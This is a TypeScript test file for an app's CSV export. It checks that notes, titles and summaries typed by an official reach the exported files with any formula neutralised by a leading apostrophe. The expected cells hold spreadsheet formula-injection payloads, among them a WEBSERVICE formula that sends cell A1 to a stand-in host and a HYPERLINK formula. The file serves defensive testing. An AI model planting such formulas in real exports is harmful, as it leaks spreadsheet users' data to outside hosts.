import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rawCells, readCsv } from './export-csv-helpers.ts';
import { hostileInitiative as hostile, hostileNote as note, recordHostileCells } from './export-fixtures.ts';
import { startTestApp, type TestApp } from './test-app.ts';

describe('hostile cells typed by an official, exported as CSV', () => {
  let app: TestApp;

  beforeAll(async () => {
    app = await startTestApp();
    await recordHostileCells(app);
  });
  afterAll(() => app.close());

  it.each([',', ';'] as const)(
    'when history.csv holds a note with a bare line break (sep %j), then the row stays whole and the raw cell starts the formula with an apostrophe',
    async (sep) => {
      const file = await readCsv(
        await app.fetch(`/api/export/history.csv?initiative=${hostile.id}&sep=${encodeURIComponent(sep)}`),
        sep,
      );
      expect(file.records.map((r) => r.note)).toContain(note);
      expect(file.text).toContain(`"Проверено на месте\n'=1+2"`);
      expect(rawCells(file, sep)).toContain("Проверено на месте\n'=1+2");
    },
  );

  it.each([',', ';'] as const)(
    'when initiatives.csv holds hostile titles and summaries (sep %j), then they read back exactly and every raw cell is inert',
    async (sep) => {
      for (const lang of ['ru', 'en'] as const) {
        const file = await readCsv(
          await app.fetch(`/api/export/initiatives.csv?owner=senate&lang=${lang}&sep=${encodeURIComponent(sep)}`),
          sep,
        );
        const row = file.records.find((r) => r.id === hostile.id);
        expect(row?.title).toBe(hostile.title[lang]);
        expect(row?.summary).toBe(hostile.summary[lang]);
      }
      const ru = await readCsv(
        await app.fetch(`/api/export/initiatives.csv?owner=senate&sep=${encodeURIComponent(sep)}`),
        sep,
      );
      expect(rawCells(ru, sep)).toEqual(expect.arrayContaining(['Заголовок\r\'=HYPERLINK("http://e.x")', "'＝1+2"]));
      const en = await readCsv(
        await app.fetch(`/api/export/initiatives.csv?owner=senate&lang=en&sep=${encodeURIComponent(sep)}`),
        sep,
      );
      expect(rawCells(en, sep)).toEqual(
        expect.arrayContaining(['x;\'=WEBSERVICE("http://e.x/?"&A1)', "'@SUM(1)\n'-2+3"]),
      );
      expect(en.text).toContain('"x;\'=WEBSERVICE(""http://e.x/?""&A1)"');
    },
  );
});
